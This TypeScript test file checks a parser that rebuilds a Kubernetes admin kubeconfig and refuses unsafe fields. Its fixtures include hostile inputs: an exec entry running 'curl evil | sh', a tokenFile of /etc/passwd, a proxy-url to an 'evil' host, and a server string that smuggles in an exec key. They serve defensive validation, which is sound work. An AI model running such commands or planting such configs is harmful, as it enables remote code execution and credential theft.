// The admin kubeconfig is rebuilt from parsed parts: a control plane's admin.conf that carries
// anything beyond the CA, the client certificate and key is refused, naming the node and field.
import { parse } from "yaml";
import { buildKubeconfig, KubeconfigError, parseAdminConf } from "../../providers/impl/kubeconfig";
import * as initProvider from "../../providers/impl/kubeadm-init";
import { defaultTunnelPort, kubeconfigViaTunnel } from "../../components/tunnel";

const b64 = (s: string) => Buffer.from(s).toString("base64");
const CA = b64("-----BEGIN CERTIFICATE-----\nMIIB-ca\n-----END CERTIFICATE-----\n");
const CERT = b64("-----BEGIN CERTIFICATE-----\nMIIB-admin\n-----END CERTIFICATE-----\n");
const KEY = b64("-----BEGIN RSA PRIVATE KEY-----\nMIIE-key\n-----END RSA PRIVATE KEY-----\n");

/** kubeadm's admin.conf, as `kubeadm init` writes it */
const adminConf = (user = `    client-certificate-data: ${CERT}\n    client-key-data: ${KEY}\n`, cluster = "", top = "") =>
  `apiVersion: v1
clusters:
- cluster:
    certificate-authority-data: ${CA}
    server: https://10.118.12.100:6443
${cluster}  name: kubernetes
contexts:
- context:
    cluster: kubernetes
    user: kubernetes-admin
  name: kubernetes-admin@kubernetes
current-context: kubernetes-admin@kubernetes
kind: Config
preferences: {}
users:
- name: kubernetes-admin
  user:
${user}${top}`;

const refused = (text: string, field: RegExp) => {
  let err: unknown;
  try {
    parseAdminConf(text, "k8s-1");
  } catch (e) {
    err = e;
  }
  expect(err).toBeInstanceOf(KubeconfigError);
  expect((err as Error).message).toMatch(/^k8s-1: \/etc\/kubernetes\/admin\.conf: /);
  expect((err as Error).message).toMatch(field);
};

describe("parseAdminConf", () => {
  test("takes the CA, client certificate and key of a kubeadm admin.conf", () => {
    expect(parseAdminConf(adminConf(), "k8s-1")).toEqual({
      certificateAuthorityData: CA,
      clientCertificateData: CERT,
      clientKeyData: KEY,
      server: "https://10.118.12.100:6443",
    });
  });
  test("refuses a user with exec", () => {
    refused(
      adminConf(
        `    client-certificate-data: ${CERT}\n    client-key-data: ${KEY}\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: sh\n      args: ["-c", "curl evil | sh"]\n`,
      ),
      /users\[0\]\.user\.exec is not allowed/,
    );
  });
  test.each([
    ["auth-provider", "    auth-provider:\n      name: oidc\n"],
    ["tokenFile", "    tokenFile: /etc/passwd\n"],
    ["token", "    token: abc\n"],
    ["username", "    username: admin\n"],
    ["password", "    password: x\n"],
  ])("refuses a user with %s", (field, extra) => {
    refused(
      adminConf(`    client-certificate-data: ${CERT}\n    client-key-data: ${KEY}\n${extra}`),
      new RegExp(`users\\[0\\]\\.user\\.${field} is not allowed`),
    );
  });
  test("refuses proxy-url and insecure-skip-tls-verify on the cluster", () => {
    refused(adminConf(undefined, "    proxy-url: http://evil:3128\n"), /clusters\[0\]\.cluster\.proxy-url is not allowed/);
    refused(
      adminConf(undefined, "    insecure-skip-tls-verify: true\n"),
      /clusters\[0\]\.cluster\.insecure-skip-tls-verify is not allowed/,
    );
  });
  test("refuses a second user or cluster", () => {
    const two = adminConf(
      undefined,
      undefined,
      `- name: other\n  user:\n    client-certificate-data: ${CERT}\n    client-key-data: ${KEY}\n`,
    );
    refused(two, /users must hold exactly one entry \(found 2\)/);
  });
  test("refuses unknown top-level keys, non-PEM data, a non-https server", () => {
    refused(adminConf() + "extensions: []\n", /extensions is not allowed/);
    refused(
      adminConf(`    client-certificate-data: ${b64("hello")}\n    client-key-data: ${KEY}\n`),
      /client-certificate-data is not a PEM block/,
    );
    refused(adminConf().replace("https://10.118.12.100:6443", "http://10.118.12.100:6443"), /server must be https/);
    refused("a: [\n", /not valid YAML/);
  });
});

describe("buildKubeconfig", () => {
  test("holds only the three values, pointed at the given server; the tunnel can rewrite it", () => {
    const kc = buildKubeconfig(parseAdminConf(adminConf(), "k8s-1"), "https://10.118.12.100:6443");
    const doc = parse(kc);
    expect(doc.users).toEqual([{ name: "kubernetes-admin", user: { "client-certificate-data": CERT, "client-key-data": KEY } }]);
    expect(doc.clusters[0].cluster).toEqual({ "certificate-authority-data": CA, server: "https://10.118.12.100:6443" });
    expect(doc["current-context"]).toBe("kubernetes-admin@kubernetes");
    // round trip: the rebuilt file is itself accepted
    expect(parseAdminConf(kc, "x").clientKeyData).toBe(KEY);
    const tunneled = parse(kubeconfigViaTunnel(kc, 40001, "10.118.12.100"));
    expect(tunneled.clusters[0].cluster).toEqual({
      "certificate-authority-data": CA,
      server: "https://127.0.0.1:40001",
      "tls-server-name": "10.118.12.100",
    });
  });
  test("refuses a server that is not https://host:port", () => {
    expect(() => buildKubeconfig(parseAdminConf(adminConf(), "k8s-1"), "https://x:1\nexec: y")).toThrow(/must be https/);
  });
});

describe("KubeadmInit state without `server`", () => {
  test("is no change by itself", async () => {
    const base = {
      connection: { name: "k8s-1" },
      nodeName: "k8s-1",
      controlPlanes: [],
      configPath: "/etc/kubernetes/kubeadm-init.yaml",
      config: "c",
      untaint: true,
      dryRun: false,
      init: "openrc",
    } as never as initProvider.KubeadmInitInputs;
    const olds = { ...base, adminKubeconfig: "", caCertHash: "", dryRunOutput: "" } as never;
    // old state has no `restore` either: it reads as null, what the program now sends
    const news = { ...base, server: "https://10.118.12.100:6443", restore: null };
    expect((await initProvider.provider.diff!("id", olds, news)).changes).toBe(false);
    expect((await initProvider.provider.diff!("id", { ...(olds as object), server: "https://10.0.0.1:6443" } as never, news)).changes).toBe(
      true,
    );
  });
});

describe("the API tunnel's port", () => {
  test("stable per project and stack, in 38000-39999, different across stacks", () => {
    expect(defaultTunnelPort("k8s-baremetal", "dev")).toBe(defaultTunnelPort("k8s-baremetal", "dev"));
    const ports = ["dev", "prod", "baremetal", "testbed", "lab-2"].map((s) => defaultTunnelPort("k8s-baremetal", s));
    for (const p of ports) (expect(p).toBeGreaterThanOrEqual(38000), expect(p).toBeLessThan(40000));
    expect(new Set(ports).size).toBe(ports.length);
  });
});
